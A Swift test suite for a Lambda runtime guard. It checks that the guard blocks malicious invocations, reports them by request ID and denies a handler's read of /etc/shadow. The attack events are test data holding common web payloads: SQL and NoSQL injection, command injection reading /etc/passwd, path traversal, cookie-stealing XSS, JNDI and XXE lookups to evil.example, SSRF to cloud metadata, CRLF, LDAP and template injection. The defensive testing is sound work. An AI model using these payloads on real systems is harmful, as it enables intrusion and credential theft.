import Foundation
import GuardInspect
import GuardJSON
import GuardPolicy
import Testing

/// `guard bootstrap` with the real runtime client (awslambdaric) against a Runtime API
/// server from the test suite that records every response and error.
@Suite struct BootstrapTests {
    static let fixtures = Harness.packageRoot + "/Tests/EndToEndTests/Fixtures"
    static let fakeAPI = Harness.packageRoot + "/Tests/GuardRuntimeAPITests/Fixtures/fake_runtime_api.py"

    func event(_ id: String, path: String, query: String = "", body: String = "") -> [String: Any] {
        let query = query.isEmpty ? [:] : ["q": query]
        let event: [String: Any] = [
            "version": "2.0", "routeKey": "$default", "rawPath": path, "rawQueryString": "",
            "headers": ["content-type": "text/plain", "user-agent": "curl/8.0"], "queryStringParameters": query,
            "requestContext": ["http": ["method": "POST", "path": path], "requestId": id],
            "body": body, "isBase64Encoded": false,
        ]
        let data = try! JSONSerialization.data(withJSONObject: event)
        return ["id": id, "body": String(decoding: data, as: UTF8.self)]
    }

    @Test func blocksMaliciousInvocationsAndReportsWithRequestID() throws {
        let dir = Harness.tempDir()
        let benign = [
            event("ok-1", path: "/orders", query: "O'Brien's order"),
            event("ok-2", path: "/search", body: "select the best option; drop by anytime"),
        ]
        let attacks = [
            event("bad-sqli", path: "/orders", query: "1' OR '1'='1' -- "),
            event("bad-cmdi", path: "/ping", query: "127.0.0.1; cat /etc/passwd"),
            event("bad-traversal", path: "/files", query: "../../../../etc/passwd"),
            event("bad-xss", path: "/comments", body: "<script>alert(document.cookie)</script>"),
            event("bad-jndi", path: "/log", query: "${jndi:ldap://evil.example/a}"),
            event("bad-ssrf", path: "/fetch", query: "http://169.254.169.254/latest/meta-data/"),
            event("bad-nosqli", path: "/login", body: #"{"user": {"$ne": null}, "password": {"$ne": null}}"#),
            event("bad-xxe", path: "/import", body: #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>"#),
            event("bad-proto", path: "/settings", body: #"{"__proto__": {"isAdmin": true}}"#),
            event("bad-deser", path: "/session", body: #"O:8:"stdClass":1:{s:1:"a";s:1:"b";}"#),
            event("bad-ldap", path: "/directory", query: "*)(uid=*))(|(uid=*"),
            event("bad-crlf", path: "/redirect", query: "/home\r\nSet-Cookie: session=attacker"),
            event("bad-ssti", path: "/greet", query: "{{7*7}}{{config.items()}}"),
        ]
        let secret = event("read-secret", path: "/secret")
        let scenario: [String: Any] = ["events": benign + attacks + [secret], "one_at_a_time": true]
        try JSONSerialization.data(withJSONObject: scenario).write(to: URL(fileURLWithPath: dir + "/scenario.json"))
        FileManager.default.createFile(atPath: dir + "/records.jsonl", contents: nil)

        let api = Process()
        api.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        api.arguments = ["python3", Self.fakeAPI, "--scenario", dir + "/scenario.json", "--records", dir + "/records.jsonl"]
        let apiOut = Pipe()
        api.standardOutput = apiOut
        api.standardError = FileHandle.nullDevice
        try api.run()
        // SIGKILL: the server ignores SIGTERM, and a survivor would hold the test's pipes open.
        defer { kill(api.processIdentifier, SIGKILL) }
        let port = try #require(Self.readPort(apiOut.fileHandleForReading.fileDescriptor, timeout: 60), "no PORT line")

        let policy = dir + "/policy.json"
        Harness.write("""
            {"version": 1, "defaults": {
              "files": {"read": ["/**"], "deny": ["/etc/shadow"]},
              "payload": {"inspect": true, "detectors": ["all"], "action": "block"}}}
            """, to: policy)
        let report = dir + "/report.jsonl"
        let log = dir + "/handler.jsonl"
        let guardProcess = Process()
        guardProcess.executableURL = URL(fileURLWithPath: Harness.guardPath)
        guardProcess.arguments = ["bootstrap", "-p", policy, "--report", report, "--", "python3", "-m", "awslambdaric", "bootstrap_app.handler"]
        var env = ProcessInfo.processInfo.environment
        env["AWS_LAMBDA_RUNTIME_API"] = "127.0.0.1:\(port)"
        env["LAMBDA_TASK_ROOT"] = Self.fixtures
        env["PYTHONPATH"] = Self.fixtures
        env["_HANDLER"] = "bootstrap_app.handler"
        env["HANDLER_LOG"] = log
        env["AWS_LAMBDA_FUNCTION_NAME"] = "orders-api"
        guardProcess.environment = env
        let guardStderr = dir + "/guard.err"
        FileManager.default.createFile(atPath: guardStderr, contents: nil)
        guardProcess.standardError = FileHandle(forWritingAtPath: guardStderr)
        try guardProcess.run()

        // Wait until every invocation was answered (a response or an error).
        let total = benign.count + attacks.count + 1
        var records: [[String: Any]] = []
        let deadline = Date().addingTimeInterval(60)
        while Date() < deadline {
            let text = (try? String(contentsOfFile: dir + "/records.jsonl", encoding: .utf8)) ?? ""
            records = text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
            if records.filter({ ["response", "error"].contains($0["kind"] as? String) }).count >= total { break }
            usleep(50_000)
        }
        kill(guardProcess.processIdentifier, SIGTERM)
        guardProcess.waitUntilExit()
        let stderrText = (try? String(contentsOfFile: guardStderr, encoding: .utf8)) ?? ""
        #expect(guardProcess.terminationStatus == 143 || guardProcess.terminationStatus == 0, "\(stderrText)")

        let responses = Set(records.filter { $0["kind"] as? String == "response" }.compactMap { $0["id"] as? String })
        let errors = records.filter { $0["kind"] as? String == "error" }
        #expect(responses == ["ok-1", "ok-2", "read-secret"], "\(responses)")
        #expect(Set(errors.compactMap { $0["id"] as? String }) == Set(attacks.map { $0["id"] as! String }))
        for e in errors {
            let headers = (e["headers"] as? [[String]]) ?? []
            #expect(headers.contains { $0.first?.lowercased() == "lambda-runtime-function-error-type" && $0.last == "Guard.PayloadBlocked" })
            let body = Data(base64Encoded: e["body_b64"] as? String ?? "").map { String(decoding: $0, as: UTF8.self) } ?? ""
            #expect(!body.contains("etc/passwd") && !body.contains("<script") && !body.contains("evil.example")
                && !body.contains("OR '1'") && !body.contains("$ne") && !body.contains("Set-Cookie")
                && !body.contains("config.items"), "echoed: \(body)")
        }
        // The handler never saw an attack, and was denied the secret.
        let seen = ((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").split(separator: "\n")
            .compactMap { try? JSONValue.parse(String($0)) }
        #expect(Set(seen.compactMap { $0["id"]?.stringValue }) == ["ok-1", "ok-2", "read-secret"])
        #expect(seen.first { $0["id"]?.stringValue == "read-secret" }?["secret"]?.stringValue == "denied")

        let reports = try String(contentsOfFile: report, encoding: .utf8).split(separator: "\n").map { try JSONValue.parse(String($0)) }
        let payload = reports.filter { $0["category"]?.stringValue == "payload" }
        #expect(Set(payload.compactMap { $0["request_id"]?.stringValue }) == Set(attacks.map { $0["id"] as! String }))
        #expect(payload.allSatisfy { $0["action"]?.stringValue == "blocked" && $0["function"]?.stringValue == "orders-api" })
        let file = try #require(reports.first { $0["category"]?.stringValue == "file" })
        #expect(file["path"]?.stringValue == "/etc/shadow")
        #expect(file["request_id"]?.stringValue == "read-secret")
    }

    /// Reads "PORT n" from the fake server's stdout, waiting with poll (not a blocked thread).
    static func readPort(_ fd: Int32, timeout: Double) -> String? {
        var text = ""
        let deadline = Date().addingTimeInterval(timeout)
        while Date() < deadline {
            var p = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
            guard poll(&p, 1, 100) > 0 else { continue }
            var byte: UInt8 = 0
            guard read(fd, &byte, 1) == 1 else { return nil }
            if byte == UInt8(ascii: "\n") {
                if text.hasPrefix("PORT ") { return String(text.dropFirst(5)) }
                text = ""
            } else {
                text.append(Character(UnicodeScalar(byte)))
            }
        }
        return nil
    }

    @Test func missingRuntimeAPIIs125() throws {
        var env = ProcessInfo.processInfo.environment
        env.removeValue(forKey: "AWS_LAMBDA_RUNTIME_API")
        let (status, _, err) = try Harness.exec(Harness.guardPath, ["bootstrap", "--", "/bin/true"], env: env)
        #expect(status == 125)
        #expect(err.contains("AWS_LAMBDA_RUNTIME_API"))
    }

    /// `--supervisor ptrace` is refused as a usage error before anything starts, by run and
    /// bootstrap alike (bootstrap used to run in notify mode without a word); no report
    /// file is created.
    @Test func ptraceSupervisorIsRefusedBeforeAnythingStarts() throws {
        let report = Harness.tempDir() + "/report.jsonl"
        var env = ProcessInfo.processInfo.environment
        env["AWS_LAMBDA_RUNTIME_API"] = "127.0.0.1:9"
        for command in ["run", "bootstrap"] {
            let (status, out, err) = try Harness.exec(
                Harness.guardPath, [command, "--supervisor", "ptrace", "--report", report, "--", "/bin/echo", "ran"], env: env)
            #expect(status == 125 && out.isEmpty, "\(command): \(status) \(out)")
            #expect(err.contains("--supervisor ptrace is not available"), "\(command): \(err)")
        }
        #expect(!FileManager.default.fileExists(atPath: report))
    }

    /// The policy accepts exactly the detector classes the inspector has: a class the
    /// policy knew and the inspector did not would be dropped from bootstrap's inspection.
    @Test func policyDetectorNamesAreTheInspectorsClasses() {
        #expect(PayloadRules.classes == DetectorClass.allCases.map(\.rawValue))
    }
}
